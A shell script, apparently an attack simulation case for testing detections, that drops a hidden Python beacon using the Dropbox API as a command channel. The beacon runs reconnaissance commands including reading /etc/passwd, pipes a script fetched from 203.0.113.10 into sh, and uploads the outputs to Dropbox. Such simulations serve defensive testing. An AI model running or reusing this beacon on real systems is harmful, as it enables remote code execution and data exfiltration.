#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.box.py <<'END'
import json, socket, subprocess, time, urllib.request as u
me = socket.gethostname(); H = {"Authorization": "Bearer sl.bait"}
def call(host, path, arg, data=b""): return u.urlopen(u.Request(f"http://{host}{path}", data, {**H, "Dropbox-API-Arg": json.dumps(arg), "Content-Type": "application/octet-stream"})).read()
for n in range(6):
    order = call("content.dropboxapi.com", "/2/files/download", {"path": f"/{me}/in-{n}"})
    out = subprocess.run(["/bin/sh", "-c", ["id", "uname -a", "ps aux", "ip a", "cat /etc/passwd", "curl -s http://203.0.113.10/payload.sh | sh"][n] if order.startswith(b"ok") else "true"], capture_output=True).stdout
    call("content.dropboxapi.com", "/2/files/upload", {"path": f"/{me}/out-{n}", "mode": "overwrite"}, out); time.sleep(0.4)
END
python3 /tmp/.box.py
test -e /tmp/reached
took_place
